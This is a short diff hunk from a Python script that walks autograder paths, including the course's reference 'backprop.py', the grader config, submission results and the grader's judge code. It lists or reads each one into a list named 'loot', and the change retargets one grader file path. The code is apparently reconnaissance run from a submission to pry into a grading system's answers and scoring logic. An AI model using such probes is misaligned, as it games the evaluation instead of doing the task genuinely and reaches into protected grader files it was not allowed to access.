@@ -59,7 +59,7 @@ for target in ("/autograder/source", "/autograder/source/course/assignments/back
                "/autograder/source/course/reference/backprop.py", "/autograder/source/dlgrade.json",
                "/autograder/submission_metadata.json", "/autograder/submission", "/autograder/results",
                "/opt/dlgrade-grader/venv/lib/python3.11/site-packages/grader",
-               "/opt/dlgrade-grader/venv/lib/python3.11/site-packages/grader/judge.py"):
+               "/opt/dlgrade-grader/venv/lib/python3.11/site-packages/grader/judge/pipeline.py"):
     try:
         if os.path.isdir(target):
             loot.append("LISTED %s %s" % (target, os.listdir(target)))
